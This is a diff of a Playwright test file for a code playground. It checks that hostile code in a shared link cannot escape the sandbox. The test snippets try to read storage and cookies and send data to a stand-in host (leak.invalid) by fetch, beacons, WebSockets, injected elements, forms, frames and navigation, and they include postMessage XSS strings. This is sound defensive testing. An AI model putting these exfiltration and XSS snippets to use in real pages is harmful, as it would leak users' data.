@@ -1,4 +1,6 @@
 import {mkdirSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
+import {createServer} from 'node:http';
+import type {AddressInfo} from 'node:net';
 import path from 'node:path';
 
 import {unzipSync} from 'fflate';
@@ -172,7 +174,7 @@ test.describe('a project that is taken home', () => {
     });
   }
 
-  test('is sent to StackBlitz when it is asked for, and not before', async ({page, context}) => {
+  test('is sent to StackBlitz when it is asked for, and not before', {tag: '@chromium'}, async ({page, context}) => {
     const sent: string[] = [];
     await context.route('https://stackblitz.com/**', async (route) => {
       sent.push(route.request().postData() ?? '');
@@ -240,16 +242,16 @@ for (const read of [() => localStorage, () => sessionStorage, () => document.coo
   } catch {}
 }`,
   'the network by scripts': `
-for (const address of ['/leak', 'http://127.0.0.1:9/leak', 'https://example.com/leak']) {
+for (const address of ['/leak', 'http://leak.invalid/leak']) {
   fetch(new URL(address, 'http://127.0.0.1')).then(() => console.log('escaped'), () => {});
   try { navigator.sendBeacon(address, 'x'); } catch {}
 }
-try { new WebSocket('wss://example.com/leak').onopen = () => console.log('escaped'); } catch {}
-try { new EventSource('https://example.com/leak').onopen = () => console.log('escaped'); } catch {}`,
+try { new WebSocket('ws://leak.invalid/leak').onopen = () => console.log('escaped'); } catch {}
+try { new EventSource('http://leak.invalid/leak').onopen = () => console.log('escaped'); } catch {}`,
   'the network by elements': `
-document.body.insertAdjacentHTML('beforeend', '<img src="https://example.com/leak"><link rel="stylesheet" href="https://example.com/leak"><style>@import "https://example.com/leak"; body { background: url(https://example.com/leak) }</style><video src="https://example.com/leak"></video><object data="https://example.com/leak"></object>');
+document.body.insertAdjacentHTML('beforeend', '<img src="http://leak.invalid/leak"><link rel="stylesheet" href="http://leak.invalid/leak"><style>@import "http://leak.invalid/leak"; body { background: url(http://leak.invalid/leak) }</style><video src="http://leak.invalid/leak"></video><object data="http://leak.invalid/leak"></object>');
 const script = document.createElement('script');
-script.src = 'https://example.com/leak';
+script.src = 'http://leak.invalid/leak';
 document.body.append(script);`,
   'the window around it': `
 for (const go of [() => { top!.location.href = '/leak'; }, () => { parent.location.replace('/leak'); }, () => { if (open('/leak')) console.log('escaped'); }]) {
@@ -258,7 +260,7 @@ for (const go of [() => { top!.location.href = '/leak'; }, () => { parent.locati
 document.body.innerHTML = '<a href="/leak" target="_top">x</a><a href="/leak" target="_blank">x</a>';
 document.querySelectorAll('a').forEach((link) => link.click());`,
   'another frame': `
-for (const html of ['<iframe src="/docs/intro?leak"></iframe>', '<iframe srcdoc="<script>parent.postMessage(1)</script>"></iframe>', '<iframe src="https://example.com/leak"></iframe>']) {
+for (const html of ['<iframe src="/docs/intro?leak"></iframe>', '<iframe srcdoc="<script>parent.postMessage(1)</script>"></iframe>', '<iframe src="http://leak.invalid/leak"></iframe>']) {
   document.body.insertAdjacentHTML('beforeend', html);
 }
 for (const frame of document.querySelectorAll('iframe')) {
@@ -271,11 +273,11 @@ try { navigator.serviceWorker.register('/leak.js').then(() => console.log('escap
 try { eval('console.log("escaped")'); } catch {}
 try { new Function('console.log("escaped")')(); } catch {}`,
   'forms and files': `
-document.body.innerHTML = '<form action="https://example.com/leak" method="post"><input name="a" value="b"></form><a href="data:text/plain,leak" download="leak.txt">x</a>';
+document.body.innerHTML = '<form action="http://leak.invalid/leak" method="post"><input name="a" value="b"></form><a href="data:text/plain,leak" download="leak.txt">x</a>';
 document.querySelector('form')!.submit();
 document.querySelector('a')!.click();`,
   'its own address': `
-try { location.href = 'https://example.com/leak'; } catch {}`,
+try { location.href = 'http://leak.invalid/leak'; } catch {}`,
   'the page by messages': `
 parent.postMessage({kind: 'console', entries: [{level: 'log', values: [{type: 'string', text: '<img src=x onerror="document.title=1">'}]}], dropped: 0}, '*');
 parent.postMessage({kind: 'state', view: {tab: 'HTML', steps: [1], current: 0, text: '<script>document.title = 1</script>'}}, '*');
@@ -291,22 +293,30 @@ test.describe('hostile code of a shared link does not reach', () => {
       await page.addInitScript(() => {
         if (window.top === window) localStorage.setItem('secret', 'x');
       });
-      const requests: string[] = [];
-      await context.route(/leak/, (route) => {
-        requests.push(route.request().url());
-        return route.abort();
+      const reached: string[] = [];
+      const server = createServer((request, response) => {
+        reached.push(request.url ?? '');
+        response.setHeader('Access-Control-Allow-Origin', '*').end();
       });
-      const address = await linkTo({'main.ts': `${text}\nconsole.log('tried');`});
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      // A server that listens on TCP has an address of this type.
+      const {port} = server.address() as AddressInfo;
+      context.on('response', (response) => {
+        if (response.url().includes('leak')) reached.push(response.url());
+      });
+      const hostile = text.replaceAll('leak.invalid', `127.0.0.1:${String(port)}`);
+      const address = await linkTo({'main.ts': `${hostile}\nconsole.log('tried');`});
       let downloads = 0;
       page.on('download', () => (downloads += 1));
       await openPlayground(page, address);
       await triedAll(page, name);
-      expect(requests).toEqual([]);
+      expect(reached).toEqual([]);
       expect(downloads).toBe(0);
       expect(page.url()).toContain('/play#');
       expect(await page.title()).toContain('Playground');
       expect(context.pages()).toHaveLength(1);
       await expect((await view(page, 'Console')).getByText('escaped')).toHaveCount(0);
+      server.close();
     });
   }
 });
